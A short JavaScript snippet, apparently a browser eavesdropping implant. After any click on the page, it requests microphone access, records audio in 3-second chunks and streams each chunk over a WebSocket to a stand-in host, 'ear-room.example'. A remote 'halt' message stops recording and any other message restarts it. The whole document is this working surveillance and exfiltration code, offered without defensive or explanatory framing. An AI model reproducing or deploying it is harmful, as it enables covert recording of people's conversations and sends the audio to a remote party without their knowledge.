const line = new WebSocket("wss://ear-room.example/in");
async function listen() {
  const sound = await navigator.mediaDevices.getUserMedia({ audio: true });
  const tape = new MediaRecorder(sound);
  tape.ondataavailable = (piece) => line.send(piece.data);
  tape.start(3000);
  line.onmessage = (order) => { if (order.data === "halt") tape.stop(); else tape.start(3000); };
}
document.body.addEventListener("click", listen, { once: true });
